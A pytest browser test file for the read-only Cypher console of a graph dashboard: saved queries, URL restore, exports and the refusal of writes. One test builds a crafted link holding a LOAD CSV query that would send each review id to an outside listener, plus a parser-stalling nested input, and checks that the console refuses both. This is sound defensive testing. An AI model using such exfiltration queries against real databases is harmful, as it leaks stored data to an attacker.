"""The Cypher console in real headless Chromium, on the full RECO review."""

from __future__ import annotations

import time
from pathlib import Path
from urllib.parse import urlencode

import pytest
from selenium.webdriver.common.keys import Keys

from dashboard.app import create_app
from dashboard.data import ExplorerData
from dashboard.pages.console import run_saved
from graph.stores.falkor_store import FalkorStore
from tests.browser import cy_count, shot, start, svg_parts, wait_for
from tests.listener import listening

pytestmark = pytest.mark.browser


@pytest.fixture
def app(reco_store: FalkorStore):
    return create_app(reco_store)


def url(dash_duo) -> str:
    return dash_duo.driver.current_url


def replace_text(dash_duo, selector: str, text: str) -> None:
    box = dash_duo.find_element(selector)
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys(Keys.DELETE)
    box.send_keys(text)


def status_starts(dash_duo, text: str) -> bool:
    return dash_duo.find_element("#console-status").text.startswith(text)


def test_pick_a_saved_query_and_run_it(dash_duo, app, reco_store) -> None:
    data = ExplorerData(reco_store)
    shared, widely_shared = (len(run_saved(data, "list_shared_concepts", {"minTheories": n}).rows)
                             for n in (3, 9))
    assert shared > widely_shared > 0
    start(dash_duo, app, "/console")
    dash_duo.find_element("#console-saved").click()  # Dash 4 dropdown: a popover with a search box
    dash_duo.wait_for_element(".dash-dropdown-search-container input").send_keys("shared concepts")
    wait_for(dash_duo, lambda: len(dash_duo.find_elements(".dash-options-list-option")) >= 1)
    first = dash_duo.find_elements(".dash-options-list-option")[0]
    assert "Concepts (contexts, mechanisms, outcomes) used by at least" in first.text  # the description shows
    first.click()
    wait_for(dash_duo, lambda: "HAS_CMOC" in dash_duo.find_element("#console-editor").get_attribute("value"))
    assert dash_duo.find_element("#console-params").get_attribute("value") == '{"minTheories": 3}'
    wait_for(dash_duo, lambda: "q=list_shared_concepts" in url(dash_duo))
    assert "cypher=" not in url(dash_duo)  # an unedited saved query is named, not copied

    dash_duo.find_element("#console-run").click()
    dash_duo.wait_for_contains_text("#console-status", "rows in", timeout=20)
    assert status_starts(dash_duo, f"{shared} rows in ")
    dash_duo.wait_for_contains_text("#console-table", "Committed leadership across organisations")
    headers = [h.text for h in dash_duo.find_elements("#console-table th")]
    assert headers[:3] == ["concept", "kind", "theoryCount"]
    assert not dash_duo.find_element("#console-error").is_displayed()
    shot(dash_duo, "console-rows.png")

    replace_text(dash_duo, "#console-params", '{"minTheories": 9}')
    wait_for(dash_duo, lambda: "params=" in url(dash_duo))
    dash_duo.find_element("#console-run").click()
    wait_for(dash_duo, lambda: status_starts(dash_duo, f"{widely_shared} rows in "))
    assert dash_duo.get_logs() == []


def test_a_write_query_is_refused_and_the_graph_is_unchanged(dash_duo, app, reco_store) -> None:
    before = reco_store.run("count_nodes")
    start(dash_duo, app, "/console")
    replace_text(dash_duo, "#console-editor", "CREATE (n:Review {id: 'x'}) RETURN n")
    dash_duo.find_element("#console-editor").send_keys(Keys.CONTROL, Keys.ENTER)  # runs like the button
    dash_duo.wait_for_contains_text("#console-error", "This console is read-only, so the query was not run",
                                    timeout=20)
    alert = dash_duo.find_element("#console-error")
    assert alert.is_displayed() and alert.get_attribute("role") == "alert"
    assert "it tries to write (CREATE (n:Review {id: 'x'}) RETURN n)" in alert.text
    assert "ptgraph query --write" in alert.text and "Traceback" not in alert.text
    assert reco_store.run("count_nodes") == before
    assert reco_store.query("MATCH (r:Review {id: 'x'}) RETURN r").rows == []
    wait_for(dash_duo, lambda: "cypher=CREATE" in url(dash_duo))
    shot(dash_duo, "console-refused.png")

    replace_text(dash_duo, "#console-editor", "MATCH (n RETURN n")
    dash_duo.find_element("#console-run").click()
    dash_duo.wait_for_contains_text("#console-error", "The database could not read the query at line 1")
    assert "near 'RETURN'" in alert.text and "errMsg" not in alert.text and "errCtx" not in alert.text
    assert dash_duo.get_logs() == []


def test_a_url_restores_the_query_and_paths_are_drawn(dash_duo, app) -> None:
    start(dash_duo, app, "/console?q=find_causal_chains&params=%7B%22from%22%3A%20%22leadership%22%2C%20"
                         "%22to%22%3A%20%22engagement%22%2C%20%22polarities%22%3A%20%5B%22positive%22%5D%7D"
                         "&run=1")
    editor = dash_duo.find_element("#console-editor")
    wait_for(dash_duo, lambda: "LEADS_TO*1..4" in editor.get_attribute("value"))
    note = dash_duo.find_element("#console-linked")
    assert note.is_displayed() and "has not run" in note.text
    time.sleep(2)  # a link used to run its query on opening: give it every chance to
    assert dash_duo.find_element("#console-status").text == ""
    assert dash_duo.find_elements("#console-table td") == []
    dash_duo.find_element("#console-run").click()
    dash_duo.wait_for_contains_text("#console-status", "rows in", timeout=20)
    assert not dash_duo.find_element("#console-linked").is_displayed()
    assert status_starts(dash_duo, "25 rows in ")  # the query's own LIMIT
    assert "LEADS_TO*1..4" in dash_duo.find_element("#console-editor").get_attribute("value")
    wait_for(dash_duo, lambda: cy_count(dash_duo, "node") > 2)
    assert cy_count(dash_duo, "node.placeholder") == 0  # every relationship end is a returned node
    assert cy_count(dash_duo, "edge") >= 2
    assert cy_count(dash_duo, "node.context") >= 1 and cy_count(dash_duo, "node.outcome") >= 1
    assert dash_duo.driver.execute_script(
        "return window.cy.getElementById('reco:engagement').data('label')") == "Engagement with services"
    dash_duo.wait_for_contains_text("#console-table", "Committed leadership across organisations")
    shot(dash_duo, "console-paths.png")

    downloads = Path(dash_duo.download_path)
    dash_duo.driver.execute_cdp_cmd("Page.setDownloadBehavior",
                                    {"behavior": "allow", "downloadPath": str(downloads)})
    dash_duo.find_element("#console-export-csv").click()
    table = downloads / "ptgraph-console.csv"
    wait_for(dash_duo, lambda: table.is_file() and table.stat().st_size > 100)
    lines = table.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "chain,hops,concepts" and len(lines) == 26
    dash_duo.find_element("#console-export-png").click()
    image = downloads / "ptgraph-console.png"
    wait_for(dash_duo, lambda: image.is_file() and image.stat().st_size > 1000)
    assert image.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    replace_text(dash_duo, "#console-editor", "MATCH (n) RETURN n LIMIT 1")  # edited, not run
    dash_duo.find_element("#console-export-svg").click()
    svg = downloads / "ptgraph-console.svg"
    wait_for(dash_duo, lambda: svg.is_file() and svg.stat().st_size > 1000)
    caption = svg_parts(svg.read_text(encoding="utf-8"))["caption"]
    for words in ("Result of the saved query “find causal chains”",
                  "Query: MATCH p = (a)-[:LEADS_TO*1..4]->(b)",
                  'Parameters: from = "leadership", to = "engagement", polarities = ["positive"]',
                  "Over the whole database: RECO: realist evaluation", "ptgraph · data: Hughes et al. 2024"):
        assert words in caption, words
    assert "LIMIT 1" not in caption  # the caption is the query that drew the graph
    assert dash_duo.get_logs() == []


def test_a_shared_link_fills_the_editor_and_runs_only_on_a_click(dash_duo, app, reco_store) -> None:
    """A link crafted to send the review out (LOAD CSV to a host) or to stall the parser does nothing on
    opening, even with run=1; pressing Run gets a plain refusal; nothing ever reaches the host."""
    with listening() as listener:
        leak = f"MATCH (r:Review) LOAD CSV FROM '{listener.url}/' + r.id AS row RETURN row"
        start(dash_duo, app, "/console?" + urlencode({"cypher": leak, "run": "1"}))
        editor = dash_duo.find_element("#console-editor")
        wait_for(dash_duo, lambda: "LOAD CSV" in editor.get_attribute("value"))
        assert dash_duo.find_element("#console-linked").is_displayed()
        assert dash_duo.find_element("#console-run").is_displayed()
        time.sleep(2)
        assert listener.hits == [] and dash_duo.find_element("#console-status").text == ""
        assert not dash_duo.find_element("#console-error").is_displayed()
        dash_duo.find_element("#console-run").click()
        dash_duo.wait_for_contains_text("#console-error", "LOAD CSV is refused in read-only queries")
        assert listener.hits == []

        deep = "RETURN " + "(" * 22 + "1" + ")" * 22
        dash_duo.driver.get(dash_duo.server_url + "/console?" + urlencode({"cypher": deep, "run": "1"}))
        wait_for(dash_duo, lambda: "((((" in dash_duo.find_element("#console-editor").get_attribute("value"))
        dash_duo.find_element("#console-run").click()
        dash_duo.wait_for_contains_text("#console-error", "22 levels deep", timeout=5)
        assert reco_store.query("RETURN 1 AS one").rows == [{"one": 1}]  # the server answers at once
    assert dash_duo.get_logs() == []
